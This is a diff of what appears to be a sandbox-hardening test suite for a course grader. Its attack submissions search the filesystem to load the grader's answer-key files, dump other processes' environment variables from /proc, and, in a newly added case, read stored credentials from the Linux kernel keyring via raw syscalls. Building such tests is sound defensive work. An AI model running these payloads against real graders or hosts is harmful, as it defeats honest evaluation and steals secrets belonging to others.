@@ -93,13 +93,17 @@ def loads_the_answer_key_from_files(course: Course) -> Submission:
         course,
         f"NAMES = {names(course)!r}\n"
         """
-import glob, importlib.util, os, sys
+import os, sys
 import aipm_course
-places = {*sys.path, *(aipm_course.__path__), os.path.dirname(aipm_course.__path__[0]), W["root"], sys.prefix, sys.base_prefix}
-files = [path for place in places if place for path in glob.glob(place + "/**/questions/**/*.py*", recursive=True)]
+if "searched" not in globals():
+    places = {*sys.path, *aipm_course.__path__, os.path.dirname(aipm_course.__path__[0]), W["root"], sys.prefix, sys.base_prefix}
+    top = {place for place in places if place and not any(place.startswith(other + "/") for other in places if other)}
+    searched = [os.path.join(place, name) for start in top for place, _, names in os.walk(start) for name in names
+                if "/questions" in place and ".py" in name]
+files = [*searched]
 for path in files:
     print(path)
-for place in {os.path.dirname(os.path.dirname(os.path.dirname(path))) for path in files}:
+for place in {path.split("/aipm_course/")[0] for path in files if "/aipm_course/" in path}:
     sys.path.insert(0, place)
     for module in [name for name in sys.modules if name.startswith("aipm_course")]:
         del sys.modules[module]
@@ -223,6 +227,23 @@ for process in glob.glob("/proc/[0-9]*"):
             print(open(process + "/environ", "rb").read())
     except OSError:
         continue
+"""
+    )
+
+
+@attack(3)
+def reads_the_keyring(course: Course) -> Submission:
+    """Linux keeps keys for a login, among them those of network drives; every process of the login may ask for them."""
+    return course.blank().first(
+        """
+import ctypes, os
+ask = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
+libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(300)
+for ring in (-3, -4, -5):
+    key = libc.syscall(ask, 10, ring, b"user", W["key"].encode(), 0)
+    if key > 0:
+        size = libc.syscall(ask, 11, key, text, 300, 0)
+        print(text.raw[:size])
 """
     )
 
